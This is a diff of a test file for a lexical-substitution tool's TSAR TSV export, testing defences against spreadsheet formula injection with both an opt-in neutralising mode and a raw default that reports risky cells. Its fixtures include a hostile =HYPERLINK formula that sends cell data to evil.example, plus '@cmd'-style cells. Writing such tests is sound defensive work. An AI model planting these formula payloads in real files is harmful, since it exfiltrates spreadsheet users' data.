@@ -1,8 +1,14 @@
 /**
  * Issue #27, finding 8: the TSAR TSV export wrote cells a spreadsheet runs as
- * formulas. Every TSV/CSV lexgold writes neutralises such cells (a leading
- * apostrophe: lib/lexsub/formats/spreadsheet.ts), and the importers read them
- * back as they were.
+ * formulas. Every TSV/CSV lexgold writes for people neutralises such cells (a
+ * leading apostrophe: lib/lexsub/formats/spreadsheet.ts), and the importers read
+ * them back as they were. The TSAR export is a dataset file the shared task's
+ * scripts compare byte for byte, so it writes cells as they are by default and
+ * neutralises them on request (`cells: "spreadsheet-safe"`, the Datasets page's box,
+ * `--cells spreadsheet-safe`); its report names every such line either way
+ * (docs/datasets.md says why). Annotators cannot put such a cell there: an answer
+ * starts with a letter or digit (substitute-rules.ts), so they come only from files the
+ * coordinator imported.
  */
 import { describe, expect, it } from "vitest";
 import { parseLemmaDecisionsTsv } from "../../lib/lexsub/formats/lemma-decisions";
@@ -28,31 +34,42 @@ function cells(tsv: string): string[] {
   return tsv.split("\n").filter((l) => l !== "").flatMap((l) => l.split("\t"));
 }
 
-describe("finding 8: no formula cells in the TSAR export, and the import reads its own export back", () => {
-  it("an imported hostile TSAR file is exported with every cell neutralised, and reads back unchanged", () => {
+describe("finding 8: no formula cells in the TSAR export when asked, every one reported, and the import reads either export back", () => {
+  const id = (w: ReturnType<typeof world>, name: string) => (w.db.$client.prepare("select id from projects where name = ?").get(name) as { id: number }).id;
+  const sentences = (w: ReturnType<typeof world>, name: string) =>
+    w.db.$client.prepare("select i.before || i.head || i.after as s, i.head as h from instances i where i.project_id = ? order by i.id").all(id(w, name));
+
+  it("spreadsheet-safe: an imported hostile TSAR file is exported with every cell neutralised, and reads back unchanged", () => {
     const w = world();
     const first = importDatasetAsNewProject(w.db, SYSTEM, "hostile", { format: "tsar", fileName: "h.tsv", bytes: enc(HOSTILE) });
     expect(first.instancesAdded).toBe(3);
-    const id = (name: string) => (w.db.$client.prepare("select id from projects where name = ?").get(name) as { id: number }).id;
-    const out = exportDataset(w.db, SYSTEM, id("hostile"), "tsar");
+    const out = exportDataset(w.db, SYSTEM, id(w, "hostile"), "tsar", { cells: "spreadsheet-safe" });
     for (const c of cells(out.text)) expect(c, c).not.toMatch(FORMULA);
     expect(out.text.split("\n")[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew\tplant\t'+tree\t'@cmd\t'-flower\t'-flower`);
 
     // The export imported again gives the same sentences, heads and gold.
     importDatasetAsNewProject(w.db, SYSTEM, "again", { format: "tsar", fileName: "h.tsv", bytes: enc(out.text) });
-    const again = exportDataset(w.db, SYSTEM, id("again"), "tsar");
+    const again = exportDataset(w.db, SYSTEM, id(w, "again"), "tsar", { cells: "spreadsheet-safe" });
     expect(again.text).toBe(out.text);
-    const sentences = (name: string) =>
-      w.db.$client
-        .prepare("select i.before || i.head || i.after as s, i.head as h from instances i where i.project_id = ? order by i.id")
-        .all(id(name));
-    expect(sentences("again")).toEqual(sentences("hostile"));
-    expect((sentences("again") as { s: string }[]).map((r) => r.s)).toEqual([
+    expect(sentences(w, "again")).toEqual(sentences(w, "hostile"));
+    expect((sentences(w, "again") as { s: string }[]).map((r) => r.s)).toEqual([
       '=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew',
       "@SUM(1+1) a quiet sea",
       // A cell that came neutralised is read as its value, as the responses import does.
       "=already quoted once and the tide",
     ]);
+  });
+
+  it("raw (the default): the cells are written as the project holds them, each such line is named in the report, and the file reads back the same", () => {
+    const w = world();
+    importDatasetAsNewProject(w.db, SYSTEM, "hostile", { format: "tsar", fileName: "h.tsv", bytes: enc(HOSTILE) });
+    const out = exportDataset(w.db, SYSTEM, id(w, "hostile"), "tsar");
+    // The third line's apostrophe was the file's own neutralisation: the value has none.
+    expect(out.text).toBe(HOSTILE.replace("'=already", "=already") + "\n");
+    expect(out.lost.find((l) => l.includes("written as it is"))).toMatch(/^3 lines have a cell beginning with =, \+, -, @, .*a spreadsheet opening this file would run it as a formula.* \(h:1, h:2, h:3\)$/);
+    importDatasetAsNewProject(w.db, SYSTEM, "again", { format: "tsar", fileName: "h.tsv", bytes: enc(out.text) });
+    expect(sentences(w, "again")).toEqual(sentences(w, "hostile"));
+    expect(exportDataset(w.db, SYSTEM, id(w, "again"), "tsar").text).toBe(out.text);
   });
 
   it("the dataset import restores a neutralised cell into a project that has other data", () => {
